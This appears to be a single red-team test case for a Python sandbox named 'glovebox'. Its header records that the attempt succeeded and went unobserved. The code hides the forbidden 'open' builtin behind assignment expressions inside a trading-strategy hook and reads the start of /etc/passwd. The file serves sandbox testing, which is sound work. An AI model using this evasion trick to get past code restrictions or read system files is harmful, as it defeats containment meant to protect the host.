# id: L25
# family: language
# goal: hide a forbidden name behind an assignment expression
# finding: PY103
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    if (opened := __builtins__) and (found := opened["open"] if isinstance(opened, dict) else opened.open):
        return (reader := found)("/etc/passwd").read(20)


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
